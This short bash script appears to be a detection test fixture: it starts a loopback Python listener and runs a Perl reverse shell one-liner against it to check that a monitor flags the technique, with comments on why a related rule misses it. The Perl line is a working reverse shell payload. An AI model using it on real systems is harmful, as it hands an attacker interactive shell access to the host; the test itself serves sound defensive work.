#!/bin/bash
# A perl -e reverse shell to a loopback listener: the socket becomes the shell's stdin,
# stdout and stderr; the listener sends `id; exit` and reads the answer. (Perl's
# open(STDIN, ">&S") first copies the socket to a new descriptor with fcntl(F_DUPFD) and
# dup2s that copy onto 0-2, so reverse-shell-socket-dup, which follows the connected
# descriptor itself, does not link them.)
# technique: T1059
# expect: perl-shell-one-liner
set -eu
cat > "$TPY_WORK/listener.py" <<'PY'
import socket
import sys

server = socket.create_server(("127.0.0.1", 0))
print(server.getsockname()[1], flush=True)
server.settimeout(30)
conn, _ = server.accept()
conn.sendall(b"id; exit\n")
conn.settimeout(10)
out = b""
while chunk := conn.recv(4096):
    out += chunk
sys.stderr.write(out.decode(errors="replace"))
PY
coproc LISTENER { /usr/bin/python3 "$TPY_WORK/listener.py"; }
listener=$LISTENER_PID
read -r port <&"${LISTENER[0]}"
timeout 30 perl -e 'use Socket;$i="127.0.0.1";$p='"$port"';socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'
wait "$listener" 2>/dev/null || true
